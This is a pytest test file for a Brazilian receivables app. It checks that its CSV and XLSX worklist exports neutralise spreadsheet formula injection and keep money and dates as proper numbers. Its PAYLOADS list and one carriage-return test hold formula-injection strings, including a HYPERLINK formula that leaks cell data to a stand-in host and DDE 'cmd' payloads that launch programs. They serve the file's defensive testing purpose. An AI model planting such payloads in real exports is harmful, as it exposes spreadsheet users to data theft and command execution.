"""Worklist exports: CSV and XLSX read back; customer text never becomes a spreadsheet formula, numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import openpyxl
import pandas as pd
import pyarrow as pa
import pytest
from hypothesis import HealthCheck, event, given
from hypothesis import settings as hyp_settings
from hypothesis import strategies as st
from support.known import AS_OF, ENGINES

from cobranca import open_db
from cobranca.importer.headers import FIELDS
from cobranca.report.export import DATE_FORMAT, DATETIME_FORMAT, MONEY_FORMAT, neutralise, to_csv_bytes, to_xlsx_bytes

ENGINES = ENGINES  # every test here runs on a DuckDB file and on PostgreSQL (see conftest.py)

FUZZ = hyp_settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1;"Clique")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "+55 49 99912-3456",  # a phone number is text, and Excel would compute it
    "-",
    "@",
]
PT_BR_NUMBER = re.compile(r"-?\d+(,\d+)?")  # how to_csv_bytes writes money and integers
SIGNED_NUMBER = re.compile(r"[+-][0-9]+(\.[0-9]+)?")  # the only text allowed to start with + or -


@pytest.mark.parametrize("payload", [*PAYLOADS, "-NaN", "-Infinity", "-_0", "+1e5", "-1_000", "\t12", "-١"])
def test_neutralise_prefixes_formula_text(payload):
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize("value", ["-12.34", "+5", "-0", "1234.56", "José", " =1 (not first)", "", None, -5,
                                   Decimal("-12.34"), 3.5])
def test_neutralise_keeps_numbers_and_plain_text(value):
    assert neutralise(value) == value


@FUZZ
@given(st.one_of(st.text(), st.from_regex(r"\A[=+\-@\t\r][-+0-9.eE_ \tA-Za-z(]{0,8}\Z")))
def test_neutralise_property(text):
    out = neutralise(text)
    if not text.startswith(DANGEROUS):
        assert out == text
    elif out == text:  # only plain numbers such as -12.34 pass unchanged
        assert SIGNED_NUMBER.fullmatch(text), text
    else:
        assert out == "'" + text


# -- a worklist with hostile customer text, imported through the importer ---------------------------------
def _hostile_db(db_path):
    db = open_db(db_path)
    header = [f.header for f in FIELDS]
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";")  # CRLF: the csv module quotes a lone CR only then
    writer.writerow(header)
    for i, payload in enumerate(PAYLOADS):
        values = {"Código Cliente": payload, "Cliente": payload, "Documento": payload if i else "-1", "Parcela": str(i),
                  "Vencimento": "01/06/2020", "Valor": "1.234,56", "Valor Pago": "0,01", "Celular": payload,
                  "E-mail": payload, "Histórico": payload}
        writer.writerow([values.get(h, "") for h in header])
    db.receivables.import_bytes(buffer.getvalue().encode(), "contas.csv")
    return db


def _csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_csv_export_of_a_hostile_worklist(db_path):
    frame = _hostile_db(db_path).worklists.rows(as_of=AS_OF)
    assert len(frame) == len(PAYLOADS)
    rows = _csv_rows(to_csv_bytes(frame))
    header, body = rows[0], rows[1:]
    assert header == list(frame.columns) and len(body) == len(frame)
    for row in body:
        assert len(row) == len(header)
        for cell in row:
            assert not cell.startswith(DANGEROUS) or PT_BR_NUMBER.fullmatch(cell), cell
    customers = [r[header.index("customer")] for r in body]
    assert sorted(customers) == sorted("'" + p.strip() for p in PAYLOADS)  # the importer trims cells
    assert {r[header.index("balance")] for r in body} == {"1234,55"}  # money stays a pt-BR number
    assert "-1" in [r[header.index("document")] for r in body]  # a document that is a number stays as typed


def test_xlsx_export_of_a_hostile_worklist(db_path):
    frame = _hostile_db(db_path).worklists.rows(as_of=AS_OF)
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(frame))).active
    rows = list(sheet.iter_rows())
    header = [c.value for c in rows[0]]
    assert header == list(frame.columns) and len(rows) == len(frame) + 1
    for row in rows[1:]:
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                assert not cell.value.startswith(DANGEROUS) or cell.value == "-1", cell.value
    column = {name: header.index(name) for name in header}
    customers = sorted(r[column["customer"]].value for r in rows[1:])
    assert customers == sorted("'" + p.strip() for p in PAYLOADS)
    for r in rows[1:]:
        balance = r[column["balance"]]
        assert balance.data_type == "n" and Decimal(str(balance.value)) == Decimal("1234.55")
        assert balance.number_format == MONEY_FORMAT  # shown R$ 1.234,56 (was #,##0.00 before the R$ format)
        assert r[column["days_overdue"]].data_type == "n" and r[column["days_overdue"]].value == 7


def test_carriage_return_inside_text_cannot_start_a_new_csv_row():
    frame = pd.DataFrame({"customer": ["Ana\r=HYPERLINK(\"http://evil.example\")", "Bia\n@SUM(1)"], "n": [1, 2]})
    rows = _csv_rows(to_csv_bytes(frame))
    assert rows == [["customer", "n"], ["Ana\r=HYPERLINK(\"http://evil.example\")", "1"], ["Bia\n@SUM(1)", "2"]]


def test_negative_numbers_and_decimals_stay_numbers():
    frame = pd.DataFrame({
        "money": pd.array([Decimal("-12.34"), Decimal("1234.56")], dtype=pd.ArrowDtype(pa.decimal128(18, 2))),
        "money_object": pd.Series([Decimal("-0.01"), Decimal("-1000.00")], dtype=object),
        "days": pd.Series([-5, 3], dtype="int32"),
        "text": pd.Series(["-12.34", "=1+1"], dtype="str"),
        "day": [date(2020, 6, 1), None],
    })
    rows = _csv_rows(to_csv_bytes(frame))
    assert rows[1] == ["-12,34", "-0,01", "-5", "-12.34", "01/06/2020"]
    assert rows[2] == ["1234,56", "-1000,00", "3", "'=1+1", ""]
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(frame))).active
    a2, b2, c2, d2 = sheet["A2"], sheet["B2"], sheet["C2"], sheet["D3"]
    assert (a2.data_type, b2.data_type, c2.data_type) == ("n", "n", "n")
    assert Decimal(str(a2.value)) == Decimal("-12.34") and Decimal(str(b2.value)) == Decimal("-0.01") and c2.value == -5
    assert d2.data_type == "s" and d2.value == "'=1+1"


def test_control_characters_cannot_sneak_a_formula_into_xlsx():
    frame = pd.DataFrame({"text": ["\x01=1+1", "a\x00b", "\x1b[31mvermelho"]})
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(frame))).active
    values = [c.value for c in sheet["A"][1:]]
    assert all(c.data_type == "s" for c in sheet["A"][1:])
    assert values == ["\ufffd=1+1", "a\ufffdb", "\ufffd[31mvermelho"]


def test_empty_frame_exports():
    frame = pd.DataFrame({"customer": pd.Series([], dtype="str"), "balance": pd.Series([], dtype=object)})
    assert _csv_rows(to_csv_bytes(frame)) == [["customer", "balance"]]
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(frame))).active
    assert [c.value for c in sheet[1]] == ["customer", "balance"] and sheet.max_row == 1


CELLS = st.one_of(st.text(), st.sampled_from(PAYLOADS), st.builds("".join, st.lists(st.sampled_from(
    ["=", "+", "-", "@", "\t", "\r", "\n", ";", '"', "'", "1", ",", ".", "A1", "(", ")", "|", "!", "e", " "]),
    max_size=12)))


@FUZZ
@given(st.lists(st.tuples(CELLS, CELLS), min_size=1, max_size=8))
def test_csv_cells_read_back_exactly_and_never_as_formulas(pairs):
    frame = pd.DataFrame(pairs, columns=["customer", "description"]).astype("str")
    rows = _csv_rows(to_csv_bytes(frame))
    assert rows[0] == ["customer", "description"] and len(rows) == len(pairs) + 1
    for original, written in zip(pairs, rows[1:], strict=True):
        for text, cell in zip(original, written, strict=True):
            assert cell == neutralise(text)
            if cell.startswith(DANGEROUS):
                event("number-like text kept as is")
                assert SIGNED_NUMBER.fullmatch(cell), cell


@FUZZ
@given(st.lists(st.tuples(CELLS, CELLS), min_size=1, max_size=8))
def test_xlsx_cells_are_never_formulas(pairs):
    frame = pd.DataFrame(pairs, columns=["customer", "description"]).astype("str")
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(frame))).active
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert len(cells) == 2 * len(pairs)
    for text, cell in zip([t for pair in pairs for t in pair], cells, strict=True):
        assert cell.data_type != "f"
        if isinstance(cell.value, str) and cell.value.startswith(DANGEROUS):
            assert SIGNED_NUMBER.fullmatch(cell.value), cell.value  # only numbers are left without the apostrophe
        if text and re.fullmatch(r"[ -~]*", text) and "_x" not in text:  # printable ASCII reads back exactly
            assert cell.value == neutralise(text)


# -- the XLSX an analyst works in: R$, dd/mm/aaaa, widths, frozen header, autofilter ---------------------
def test_xlsx_export_is_formatted_for_work(db_path):
    db = open_db(db_path)
    db.receivables.import_file(Path(__file__).resolve().parents[2] / "data" / "exemplo_contas_a_receber.csv")
    db.contacts.register_one("144", "1", "WhatsApp", to="(49) 99912-3456", by="ANA",
                        at=datetime(2020, 6, 8, 9, 30))
    frame = db.worklists.rows(as_of=AS_OF)
    frame = frame[["customer", "document", "due_date", "days_overdue", "balance", "updated_amount",
                   "last_contact_at", "description"]].copy()
    frame["last_contact_at"] = frame["last_contact_at"].map(
        lambda v: None if pd.isna(v) else pd.Timestamp(v).to_pydatetime()).astype(object)
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(frame))).active
    header = [c.value for c in sheet[1]]
    col = {name: openpyxl.utils.get_column_letter(header.index(name) + 1) for name in header}
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:{col['description']}{len(frame) + 1}"
    for row in range(2, len(frame) + 2):
        due = sheet[f"{col['due_date']}{row}"]
        assert due.is_date and due.number_format == DATE_FORMAT  # a real date, shown dd/mm/aaaa
        balance = sheet[f"{col['balance']}{row}"]
        assert balance.data_type == "n" and balance.number_format == MONEY_FORMAT
        assert Decimal(str(balance.value)) == frame.iloc[row - 2]["balance"]
        assert sheet[f"{col['updated_amount']}{row}"].number_format == MONEY_FORMAT
        assert sheet[f"{col['days_overdue']}{row}"].data_type == "n"
    contacted = [sheet[f"{col['last_contact_at']}{r}"] for r in range(2, len(frame) + 2)
                 if sheet[f"{col['last_contact_at']}{r}"].value is not None]
    assert len(contacted) == 1 and contacted[0].is_date and contacted[0].number_format == DATETIME_FORMAT
    assert contacted[0].value == datetime(2020, 6, 8, 9, 30)
    widths = {name: sheet.column_dimensions[letter].width for name, letter in col.items()}
    longest_customer = max(len(c) for c in frame["customer"])
    assert longest_customer + 2 <= widths["customer"] <= longest_customer + 4
    assert widths["due_date"] >= len("00/00/0000") and widths["document"] < widths["customer"]
    widest_money = max(len(f"R$ {v:,.2f}") for v in frame["balance"])
    assert widths["balance"] >= widest_money
    assert all(w <= 60 for w in widths.values())


def test_xlsx_money_format_reads_as_brl_in_pt_br():
    """The number format is the Excel currency pattern; a pt-BR Excel shows its separators: R$ 1.234,56."""
    assert MONEY_FORMAT.startswith('"R$" #,##0.00')
    frame = pd.DataFrame({"Saldo": pd.Series([Decimal("1234.56"), Decimal("-0.01")], dtype=object),
                          "Vencimento": [date(2020, 6, 1), date(2020, 6, 2)]})
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(frame))).active
    assert [sheet["A2"].number_format, sheet["B2"].number_format] == [MONEY_FORMAT, DATE_FORMAT]
    assert sheet["B2"].value == datetime(2020, 6, 1)
